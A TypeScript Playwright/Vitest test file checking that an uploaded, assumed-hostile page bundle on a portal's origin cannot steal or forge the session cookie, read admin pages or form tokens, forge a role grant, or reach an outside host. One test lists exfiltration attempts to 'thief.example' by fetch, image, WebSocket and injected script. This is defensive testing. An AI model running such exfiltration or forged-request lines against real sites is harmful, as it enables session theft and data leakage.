import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { readPortalBundle } from '../../src/http/portal-bundle.ts'
import { nameBundle } from '../../src/registrar/portal.ts'
import { makeThings, type Things } from '../access/things.ts'
import { chromiumPath, type LivePortal, startLivePortal } from './live-portal.ts'

const executablePath = chromiumPath()
/** A page as somebody would make it who had it named and served: what its script may do is what a test asks it to. */
const FILES = {
  'upload.html': '<!doctype html><html lang="en"><title>Sluis</title><h1>Sluis</h1><script src="x.js"></script></html>',
  'x.js': 'globalThis.isRunning = true',
}

describe.skipIf(executablePath === undefined)(
  'a bundle that means ill, at the origin of the pages, with somebody signed in',
  () => {
    let portal: LivePortal
    let things: Things
    let context: BrowserContext
    let page: Page
    let outside: string[]
    beforeAll(async () => {
      const folder = mkdtempSync(join(tmpdir(), 'sluis-hostile-'))
      for (const [name, text] of Object.entries(FILES)) writeFileSync(join(folder, name), text)
      const bundle = readPortalBundle(folder)
      rmSync(folder, { recursive: true })
      portal = await startLivePortal(executablePath ?? '', () => ({ portalBundle: bundle }))
      things = await makeThings(portal.world)
      await portal.change((draft) => nameBundle(draft, bundle.digest, portal.world.clock.now()))
      await vi.waitFor(async () => expect((await fetch(`${portal.url}/portal/upload`)).status).toBe(200), 60_000)
      context = await portal.fresh()
      page = await context.newPage()
      await page.goto('/portal/')
      await portal.signIn(page, 'p-institution-administrator pwd')
      outside = []
      context.on('requestfinished', (request) => {
        if (!request.url().startsWith(portal.url)) outside.push(request.url())
      })
      await page.goto('/portal/assets/upload.html')
      expect(await page.evaluate('isRunning')).toBe(true)
    })
    afterAll(() => portal?.stop())

    const read = (path: string, init: object = {}): Promise<[number, string]> =>
      page.evaluate(
        async ([to, how]) => {
          const answer = await fetch(to, { credentials: 'include', ...how })
          return [answer.status, await answer.text()] as [number, string]
        },
        [path, init] as const,
      )

    test('cannot read the cookie of the session, nor set one in its place', async () => {
      expect(await page.evaluate('document.cookie')).toBe('')
      await page.evaluate(`document.cookie = '__Host-sluis-session=${'A'.repeat(43)}; Secure; Path=/'`)
      await page.goto('/portal/deliveries')
      expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Leveringen')
      await page.goto('/portal/assets/upload.html')
    })

    test('gets no page of the institution by its script, and no token of a form [HTTP-93]', async () => {
      for (const path of ['/portal/deliveries', '/portal/colleagues', '/portal/keys', '/portal/agreements']) {
        const [status, text] = await read(path)
        expect([path, status]).toEqual([path, 401])
        expect(text).not.toMatch(/formToken|p-institution-administrator/)
      }
      for (const path of ['/portal/', '/portal/help']) {
        const [status, text] = await read(path)
        expect([path, status]).toEqual([path, 200])
        expect(text).not.toMatch(/formToken|p-institution-administrator/)
      }
    })

    test('sends no form by its script, were it to know the token [HTTP-93]', async () => {
      const other = await context.newPage()
      await other.goto('/portal/colleagues')
      const formToken = await other.locator('input[name=formToken]').first().inputValue()
      await other.close()
      const body = { formToken, kind: 'grant', person: 'p-of-the-thief', role: 'institution-administrator' }
      const init = {
        method: 'POST',
        body: new URLSearchParams(body).toString(),
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      }
      expect((await read('/portal/colleagues', init))[0]).toBe(400)
      const { rows } = await portal.world.owner.withConnection((sql) =>
        sql.query('select person from portal.role_request'),
      )
      expect(rows).toEqual([])
    })

    test('reaches no other origin under the policy of an honest gateway [HTTP-96]', async () => {
      const attempts = [
        `fetch('https://thief.example/', { method: 'POST', body: 'x' })`,
        `new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: 'https://thief.example/x.png' }))`,
        `new Promise((done, fail) => Object.assign(new WebSocket('wss://thief.example/'), { onopen: done, onerror: fail }))`,
        `new Promise((done, fail) => document.body.append(
        Object.assign(document.createElement('script'), { onload: done, onerror: fail, src: 'https://thief.example/x.js' })))`,
      ]
      for (const attempt of attempts)
        expect(await page.evaluate(`(async () => ${attempt})().then(() => 'done', () => 'refused')`), attempt).toBe(
          'refused',
        )
      expect(outside).toEqual([])
    })

    test('can read receipts, and a page in a window that it opens: what is said of it in SECURITY.md is so', async () => {
      const [status, receipt] = await read(`/portal/deliveries/${things.closed.museum}/receipt`)
      expect([status, JSON.parse(receipt).schema]).toEqual([200, 'sluis-receipt/1'])
      const [opened] = await Promise.all([
        context.waitForEvent('page'),
        page.evaluate(`void (globalThis.w = open('/portal/colleagues'))`),
      ])
      await opened.waitForLoadState()
      expect(await page.evaluate(`w.document.body.textContent.includes('p-institution-administrator')`)).toBe(true)
      await opened.close()
    })
  },
)
